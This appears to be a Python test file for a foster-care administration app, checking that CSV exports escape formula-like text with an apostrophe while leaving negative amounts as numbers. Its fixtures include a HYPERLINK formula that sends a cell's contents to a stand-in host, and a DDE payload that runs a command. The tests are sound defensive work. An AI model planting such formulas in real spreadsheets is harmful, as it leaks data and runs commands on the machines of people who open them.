"""CSV exports (lists, the payment run, the register, candidates' changes): a text that
Excel would run as a formula (»=HYPERLINK(…)«, »+…«, »-…«, »@…«) is written with an
apostrophe in front; amounts stay numbers, »-12,50« too. Before, only the XLSX files
were guarded."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from rejnistvo.register.candidates import CandidateChange, write_candidate_changes_csv
from rejnistvo.services.list_exports import ListTable, to_csv
from rejnistvo.services.payment_exports import _csv_cells
from rejnistvo.spreadsheet_text import csv_text

LINK = '=HYPERLINK("http://x.example/?"&A1;"klik")'


@pytest.mark.parametrize("text", [LINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_formula_like_text_gets_an_apostrophe(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["Špela Šuštar", "1220-9/2026", "", 12, Decimal("-1")])
def test_other_values_stay_as_they_are(value):
    assert csv_text(value) == value


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_list_export_guards_text_not_amounts():
    table = ListTable("Rejniki", ("Ime", "Znesek", "Dni"), ((LINK, Decimal("-12.50"), -3),))
    assert _rows(to_csv(table))[1] == ["'" + LINK, "-12,50", "-3"]


def test_payment_run_cells_guard_text_not_amounts():
    assert _csv_cells(["=1+2", Decimal("-12.50"), 3]) == ["'=1+2", "-12,50", 3]


def test_candidate_changes_guard_names(tmp_path):
    out = write_candidate_changes_csv(
        [CandidateChange(date(2026, 3, 2), "added", "=cmd|' /C calc'!A0", "@Center")],
        tmp_path / "k.csv",
    )
    row = _rows(out.read_bytes())[1]
    assert row[2:] == ["'=cmd|' /C calc'!A0", "'@Center"]
